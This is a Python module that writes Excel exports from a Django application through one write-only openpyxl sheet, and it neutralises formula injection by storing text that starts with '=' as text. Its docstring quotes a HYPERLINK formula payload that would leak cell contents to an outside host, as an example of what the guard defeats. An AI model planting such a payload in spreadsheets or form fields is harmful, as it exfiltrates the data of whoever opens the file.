"""Excel out: every export and report is written through `Sheet`, one write-only sheet, and
leaves as a file streamed to the browser or as bytes.

One writer, so that what holds for one export holds for all: column widths and a bold header, a
frozen header row, times as local wall times (Excel has no time zones) in one format, and text
that people typed written as text, never as a formula: a description sent through the public
form as `=HYPERLINK("http://x/?leak="&A1)` is shown, not run, in a worker's spreadsheet program.
"""

import io
import tempfile
from collections.abc import Iterable, Sequence
from datetime import datetime

from django.http import FileResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.dimensions import ColumnDimension, DimensionHolder

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
BOLD = Font(bold=True)
TIME_FORMAT = "yyyy-mm-dd hh:mm"


class Sheet:
    """A workbook of one write-only sheet. Widths and frozen panes are set before any row, as
    write-only sheets need."""

    def __init__(
        self, title: str, *, widths: Sequence[float] = (), freeze: str | None = "A2"
    ) -> None:
        self.workbook = Workbook(write_only=True)
        self.sheet: WriteOnlyWorksheet = self.workbook.create_sheet(title[:31])
        # A write-only sheet takes its column widths before its first row.
        dimensions: DimensionHolder[str, ColumnDimension] = self.sheet.column_dimensions
        for index, width in enumerate(widths, start=1):
            dimensions[get_column_letter(index)].width = width
        if freeze:
            self.sheet.freeze_panes = freeze

    def _cell(self, value: object, font: Font | None) -> object:
        """The value as written: plain, except styled cells and times (a cell of their own
        costs more than the value, and an export may hold a million rows)."""
        if isinstance(value, datetime):
            if timezone.is_aware(value):
                value = timezone.localtime(value).replace(tzinfo=None)
            cell = WriteOnlyCell(self.sheet, value=value)
            cell.number_format = TIME_FORMAT
        elif isinstance(value, str) and value.startswith("="):
            # openpyxl writes a text beginning with "=" as a formula: this sheet never holds one.
            cell = WriteOnlyCell(self.sheet, value=value)
            cell.data_type = "s"
        elif font is not None:
            cell = WriteOnlyCell(self.sheet, value=value)  # type: ignore[arg-type]
        else:
            return value
        if font is not None:
            cell.font = font
        return cell

    def row(
        self, values: Iterable[object], *, bold: bool = False, size: float | None = None
    ) -> None:
        """One line; an aware datetime becomes the local wall time in TIME_FORMAT."""
        font = Font(bold=True, size=size) if size else BOLD if bold else None
        self.sheet.append([self._cell(v, font) for v in values])

    def header(self, labels: Iterable[str]) -> None:
        self.row(labels, bold=True)

    def rows(self, lines: Iterable[Iterable[object]]) -> int:
        count = 0
        for values in lines:
            self.row(values)
            count += 1
        return count

    def response(self, filename: str) -> FileResponse:
        """Saved into a temporary file, which is streamed to the browser (and then deleted)."""
        spool = tempfile.TemporaryFile()  # noqa: SIM115 (FileResponse closes, and so deletes, it)
        try:
            self.workbook.save(spool)
        except BaseException:
            spool.close()
            raise
        spool.seek(0)
        return FileResponse(spool, as_attachment=True, filename=filename, content_type=XLSX)

    def content(self) -> bytes:
        buffer = io.BytesIO()
        self.workbook.save(buffer)
        return buffer.getvalue()
